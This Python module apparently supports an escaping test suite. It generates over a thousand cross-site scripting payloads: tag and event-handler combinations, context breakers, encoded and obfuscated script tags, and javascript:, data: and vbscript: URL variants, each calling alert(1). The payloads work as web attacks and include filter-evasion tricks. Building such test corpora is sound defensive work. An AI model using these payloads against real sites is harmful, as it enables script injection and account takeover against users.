"""Payloads that run a script where text is not escaped: generated from what browsers know.

Each calls `alert`, which the pages of test_payloads.py turn into a request to their server.
"""

from __future__ import annotations

from itertools import product

_HANDLERS = (
    "onload", "onerror", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart",
    "onbegin", "onpageshow", "onscroll", "onpointerenter", "onwheel", "oncopy", "onresize",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "video src=x", "audio src=x", "iframe",
    "details open", "object data=x", "embed src=x", "math", "select autofocus", "marquee",
    "a href=# id=x tabindex=1", "style", "link rel=stylesheet href=x", "keygen autofocus",
)  # fmt: skip
_BREAKERS = ("", '">', "'>", "</title>", "</style>", "-->", "</script>", "]]>", "</textarea>", "`>")
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src='javascript:parent.alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<form><button formaction='javascript:alert(1)'>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<base href='javascript:/a/-alert(1)///////'><a href=../x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<table background='javascript:alert(1)'>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src=x onerror="al\\u0065rt(1)">',
    "<img src=x onerror=&#97;lert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src='x' onerror='alert`1`'>",
    "<<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cimg src=x onerror=alert(1)%3E",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "＜img src=x onerror=alert(1)＞",
    "<img src=x onerror=alert(1)\u0000>",
    "<\u0000img src=x onerror=alert(1)>",
    "<img\u000bsrc=x\u000conerror=alert(1)>",
    "\ud800<img src=x onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
)
URLS = tuple(
    scheme + rest
    for scheme, rest in product(
        (
            "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:",
            "\x01javascript:", "\u00a0javascript:", "data:text/html,", "data:text/html;base64,",
            "vbscript:", "view-source:", "blob:", "filesystem:", "feed:javascript:", "//", "\\\\",
            "http:javascript:", "https://a.example/\"onclick=", "https://a.example/'onclick=",
        ),
        ("alert(1)", "//alert(1)", "%0aalert(1)", "<script>alert(1)</script>"),
    )
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """All of them, each once: more than a thousand."""
    events = (
        f"{breaker}<{tag} {handler}=alert(1)>"
        for (tag, handler), breaker in zip(
            product(_TAGS, _HANDLERS), _BREAKERS * len(_TAGS) * 2, strict=False
        )
    )
    broken = (f"{breaker}{script}" for breaker, script in product(_BREAKERS, _SCRIPTS))
    attributes = (
        f"{quote}{space}{handler}=alert(1){end} autofocus tabindex=1 x={quote}"
        for quote, space, handler, end in product("\"'`", (" ", "/", "\n"), _HANDLERS, ("", ";"))
    )
    return tuple(dict.fromkeys((*events, *broken, *attributes, *URLS)))
